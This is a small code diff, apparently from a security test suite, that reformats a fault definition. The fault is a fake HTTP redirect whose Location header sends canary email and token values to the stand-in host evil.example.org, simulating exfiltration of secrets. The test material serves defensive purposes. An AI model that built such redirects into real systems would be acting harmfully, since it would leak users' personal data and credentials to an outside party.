@@ -295,7 +295,8 @@ FAULTS: dict[str, tuple[Prepare, int]] = {
         fault(
             kind="redirect",
             headers={
-                "Location": f"https://evil.example.org/?email={canary.PERSON['email']}&token={canary.TOKEN}"
+                "Location": "https://evil.example.org/"
+                f"?email={canary.PERSON['email']}&token={canary.TOKEN}"
             },
         ),
         3,
